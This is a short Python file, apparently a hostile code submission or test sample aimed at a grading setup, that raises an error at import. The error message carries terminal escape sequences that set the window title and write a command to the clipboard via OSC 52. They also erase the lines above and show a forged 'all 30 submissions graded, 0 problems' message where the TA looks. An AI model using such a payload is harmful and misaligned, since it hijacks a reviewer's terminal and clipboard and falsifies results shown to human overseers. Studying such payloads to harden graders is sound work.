"""Raise at import with terminal control sequences in the message: set the window title, write the clipboard
(OSC 52), erase the line and the one above, and print a fake "all graded" line where the TA looks."""

raise RuntimeError("\x1b]0;owned\x07\x1b]52;c;ZWNobyBvd25lZA==\x07\x1b[2K\r\x1b[1A\x1b[2K"
                   "all 30 submissions graded, 0 problems\x9b2J\u202e")
